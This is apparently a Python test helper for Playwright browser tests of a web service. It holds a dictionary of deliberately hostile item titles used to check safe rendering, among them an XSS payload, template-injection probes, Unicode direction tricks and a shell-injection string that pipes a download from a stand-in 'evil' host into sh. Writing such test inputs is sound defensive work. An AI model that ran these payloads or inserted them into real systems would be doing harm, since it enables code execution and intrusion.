"""A page in the browser, what it complained of, and the worst titles that items can have."""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any

from playwright.sync_api import Browser, BrowserContext, ConsoleMessage, Page
from running_service import PATIENCE_S

KEY, ADMIN_KEY = "a-client-key", "an-admin-key"
PATIENCE_MS = 1000 * PATIENCE_S
ALONE = (
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
)
HOSTILE = {
    "item-0": "<img src=x onerror=\"document.title='broken'\"><script>alert(1)</script>",
    "item-1": "long " * 2000,
    "item-2": "\u05e9\u05dc\u05d5\u05dd \u202eolleh\u202c (1)",
    "item-3": "W" * 10_000,
    "item-4": "</title></bdi>&lt;b&gt; {{7*7}} ${7*7} %3Cb%3E",
    "item-5": "\u0000\ufffe\ud7ff end \U0001f9f6\u200d\u2642\ufe0f",
    "item-6": "",
    "item-7": "'; curl evil | sh; echo '",
}


@dataclass
class Seen:
    """A page in the browser, and everything that it complained of or asked for."""

    page: Page
    url: str
    complaints: list[str] = field(default_factory=list)
    asked: list[str] = field(default_factory=list)
    expected: list[str] = field(default_factory=list)  # parts of complaints that belong to a test

    def hear(self, message: ConsoleMessage) -> None:
        if message.type in ("error", "warning"):
            self.complaints.append(f"{message.text} {message.location.get('url')}")

    def open(self, path: str = "/") -> Page:
        """Load a path and wait for what it shows first."""
        self.page.goto(self.url + path)
        if not path.startswith("/docs"):
            # A function: the page's policy forbids to evaluate a string, when it is asked again.
            shown = "() => document.querySelector('main > section:not([hidden])')"
            self.page.wait_for_function(shown)
        return self.page


def new_context(browser: Browser, **options: Any) -> BrowserContext:
    """A context whose user answers the browser's question for the key."""
    given = {"viewport": {"width": 1300, "height": 900}, **options}
    given.setdefault("http_credentials", {"username": "me", "password": KEY})
    context = browser.new_context(**given)
    context.set_default_timeout(PATIENCE_MS)
    return context
